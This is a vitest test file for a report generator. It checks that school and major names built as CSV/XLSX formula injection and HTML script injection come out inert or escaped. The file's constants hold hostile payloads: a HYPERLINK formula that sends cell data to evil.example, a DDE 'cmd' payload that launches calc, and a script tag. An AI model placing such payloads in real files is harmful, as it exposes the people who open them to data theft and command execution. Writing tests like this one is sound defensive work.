/**
 * Hostile names through the whole path (models → reports): the city fixture with school and major
 * names that a spreadsheet would run as formulas and a page would run as script. Every text cell
 * in CSV and XLSX must come out as inert text, and the HTML escaped.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { buildWarehouse } from '../models/warehouse.ts';
import { generateReports } from '../../pipeline/reports/generate-reports.ts';
import { A1, city, cityPolicy, S1, S2, S3 } from '../fixtures/recommend/city.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")<script>alert(1)</script>';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1)';
const MINUS = '-2+3 航空发动机';

const hostile = {
  ...city,
  schools: city.schools.map((s) => (s[0] === S1 ? [S1, HYPERLINK, ...s.slice(2)] : s[0] === S2 ? [S2, CMD, ...s.slice(2)]
    : s[0] === S3 ? [S3, SUM, ...s.slice(2)] : s)),
  majors: city.majors.map((m) => (m[0] === A1 ? [A1, MINUS, ...m.slice(2)] : m)),
};

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
let out: string;

beforeAll(async () => {
  const conn = await buildWarehouse(hostile, cityPolicy);
  out = mkdtempSync(join(tmpdir(), 'reports-hostile-'));
  await generateReports(conn, out, {
    snapshot: '20240901T000000Z', finished_at: '2024-09-01T00:00:00.000Z', data_label: 'test', synthetic: false, title: '测试数据',
  });
});
afterAll(() => rmSync(out, { recursive: true, force: true }));

describe('formula injection and markup', () => {
  it('neutralises every CSV text cell a spreadsheet would evaluate, and leaves numbers alone', () => {
    // the uav list names S1 and S2; S2's own report lists its A1 programme
    const cells = ['industries/uav.csv', `schools/${S2}.csv`].flatMap((file) =>
      (parse(readFileSync(join(out, file), 'utf8'), { bom: true }) as string[][]).flat());
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${CMD}`);
    expect(cells).toContain(`'${MINUS}`);
    // S2's C1 programme sits in mfg, whose gap is 50 − 59 = −9: a number, left as it is
    expect(cells).toContain('-9');
    // the one formula written: ="…" around digits Excel would otherwise read as a number (an id's leading 0), which runs nothing
    const keptText = /^="[0-9eE.]+"$/;
    expect(cells.filter((c) => FORMULA_START.test(c) && !PLAIN_NUMBER.test(c) && !keptText.test(c))).toEqual([]);
  });

  it('writes XLSX text cells as inert strings, never formulas', async () => {
    for (const file of ['industries/uav.xlsx', `schools/${S1}.xlsx`, `schools/${S2}.xlsx`, `schools/${S3}.xlsx`]) {
      const book = new ExcelJS.Workbook();
      await book.xlsx.readFile(join(out, file));
      const texts: string[] = [];
      book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
        expect(cell.type, `${file} ${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      })));
      expect(texts.filter((t) => FORMULA_START.test(t))).toEqual([]);
    }
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(join(out, 'industries/uav.xlsx'));
    const names = book.getWorksheet('建议')!.getColumn(4).values;
    expect(names).toEqual([undefined, '学校', `'${HYPERLINK}`, `'${CMD}`]);
    const summary = new ExcelJS.Workbook();
    await summary.xlsx.readFile(join(out, `schools/${S3}.xlsx`));
    expect(summary.getWorksheet('概要')!.getColumn(3).values).toContain(`'${SUM} 专业调整报告`);
  });

  it('escapes a hostile school name in HTML', () => {
    const html = readFileSync(join(out, `schools/${S1}.html`), 'utf8');
    expect(html).not.toContain('<script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;点我&quot;)');
    expect(html).not.toContain('合成示例数据'); // this data is not the synthetic sample
  });
});
